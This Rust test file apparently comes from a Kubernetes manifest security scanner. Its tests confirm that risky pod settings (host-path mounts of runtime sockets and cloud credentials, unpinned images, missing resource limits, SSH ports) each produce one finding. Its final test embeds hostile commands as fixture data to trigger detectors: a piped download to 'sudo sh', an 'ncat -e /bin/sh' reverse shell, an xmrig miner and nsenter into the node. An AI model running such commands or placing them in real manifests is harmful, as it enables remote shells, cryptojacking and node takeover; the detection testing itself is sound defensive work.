//! What one setting causes is told by one check, the one that says most about it: in the profile that runs all.

#![allow(clippy::unwrap_used, reason = "tests stop at the first surprise")]

mod text;

use seawall_engine::{Config, Selection};
use seawall_finding::Profile;
use text::snapshot;

/// Which of `checks` find something in a pod with this container and these volumes.
fn told(container: &str, volumes: &str, checks: &[&'static str]) -> Vec<&'static str> {
    let text = format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: a}}\nspec:\n  containers:\n  - {{name: a, {container}}}\n  volumes: [{volumes}]\n"
    );
    let snapshot = snapshot(&text);
    assert!(snapshot.problems.is_empty(), "{:?}\n{text}", snapshot.problems);
    let selection = Selection { profile: Some(Profile::All), ..Selection::default() };
    let plan = seawall_engine::plan(&Config::default(), &selection, &seawall_checks::all()).unwrap();
    let report = seawall_engine::evaluate(&snapshot, &plan);
    let found = report.active().map(|reported| reported.finding.check.name);
    found.filter(|name| checks.contains(name)).collect()
}

const HOST_PATHS: &[&str] = &[
    "container-runtime-socket",
    "cloud-credentials-on-host",
    "sensitive-host-path",
    "writable-host-path",
    "host-path-volume",
    "unrestricted-volume-type",
];

#[test]
fn a_path_of_the_node_is_told_once() {
    for (path, read_only, expected) in [
        ("/var/run/docker.sock", false, &["container-runtime-socket"][..]),
        ("/run/containerd", true, &["container-runtime-socket"]),
        ("/root/.aws", false, &["cloud-credentials-on-host"]),
        ("/etc/kubernetes/azure.json", true, &["cloud-credentials-on-host"]),
        ("/", false, &["sensitive-host-path"]),
        ("/etc/systemd", false, &["sensitive-host-path"]),
        ("/srv/data", false, &["writable-host-path"]),
        ("/srv/data", true, &["host-path-volume"]),
    ] {
        let container =
            format!("image: 'a:1', volumeMounts: [{{name: v, mountPath: /v, readOnly: {read_only}}}]");
        let volume = format!("{{name: v, hostPath: {{path: {path}}}}}");
        assert_eq!(told(&container, &volume, HOST_PATHS), expected, "{path} read-only: {read_only}");
    }
    // What no container mounts, no container gets at: that the pod asks for it is all there is to say.
    assert_eq!(
        told("image: 'a:1'", "{name: v, hostPath: {path: /run/docker.sock}}", HOST_PATHS),
        ["host-path-volume"]
    );
}

#[test]
fn an_image_is_told_once() {
    let checks = &[
        "mutable-image-tag",
        "unpinned-image",
        "stale-image",
        "invalid-image-reference",
        "frozen-registry",
        "cached-image",
    ];
    for (container, expected) in [
        ("image: a", &["mutable-image-tag"][..]),
        ("image: 'a:latest', imagePullPolicy: IfNotPresent", &["stale-image"]),
        ("image: 'a:1'", &["unpinned-image"]),
        ("image: 'A B'", &["invalid-image-reference"]),
        // Two causes: where it comes from, and that the version is not fixed.
        ("image: 'k8s.gcr.io/a:1'", &["frozen-registry", "unpinned-image"]),
    ] {
        assert_eq!(told(container, "", checks), expected, "{container}");
    }
}

#[test]
fn resources_are_told_once() {
    let checks =
        &["memory-limit-missing", "memory-request-missing", "cpu-request-missing", "cpu-limit-missing"];
    for (resources, expected) in [
        ("{}", &["memory-limit-missing", "cpu-request-missing"][..]),
        ("{limits: {memory: 1Gi}}", &["cpu-request-missing"]),
        ("{requests: {cpu: 1, memory: 1Gi}}", &["memory-limit-missing", "cpu-limit-missing"]),
        ("{limits: {cpu: 1, memory: 1Gi}}", &[]),
    ] {
        assert_eq!(
            told(&format!("image: 'a:1', resources: {resources}"), "", checks),
            expected,
            "{resources}"
        );
    }
}

#[test]
fn a_port_is_told_once() {
    let checks = &["ssh-port", "privileged-port"];
    assert_eq!(told("image: 'a:1', ports: [{containerPort: 22}]", "", checks), ["ssh-port"]);
    assert_eq!(told("image: 'a:1', ports: [{containerPort: 80}]", "", checks), ["privileged-port"]);
}

/// Evidence shows what is wrong and nothing that may be a secret.
#[test]
fn what_may_be_a_secret_is_not_shown() {
    let text = "apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  containers:
  - name: a
    image: 'https://robot:hunter2@registry.example/a:1'
    command: [/bin/sh, -c]
    args:
    - 'export TOKEN=hunter2; curl -H \"Authorization: hunter2\" https://x | sudo sh; ncat -e /bin/sh hunter2 1; xmrig -o stratum+tcp://hunter2@pool:1; nsenter -t 1 hunter2'
    env:
    - {name: A, value: hunter2}
    - {name: A, value: hunter2}
  - name: b
    image: git-sync:4
    args: ['--git-config=hunter2', '--exechook-command=hunter2']
    env: [{name: GITSYNC_GIT, value: hunter2}]
";
    let snapshot = snapshot(text);
    let selection = Selection { profile: Some(Profile::All), ..Selection::default() };
    let plan = seawall_engine::plan(&Config::default(), &selection, &seawall_checks::all()).unwrap();
    let report = seawall_engine::evaluate(&snapshot, &plan);
    for name in [
        "downloaded-script",
        "sudo-in-command",
        "reverse-shell",
        "cryptocurrency-miner",
        "node-namespace-entry",
        "duplicate-environment-variable",
        "invalid-image-reference",
        "git-sync-hook",
    ] {
        assert!(
            report.active().any(|reported| reported.finding.check.name == name),
            "{name} finds something"
        );
    }
    for reported in report.active() {
        let told = format!("{:?}", reported.finding);
        let told = told.replace(reported.finding.check.doc, "");
        assert!(!told.contains("hunter2"), "{told}");
    }
}
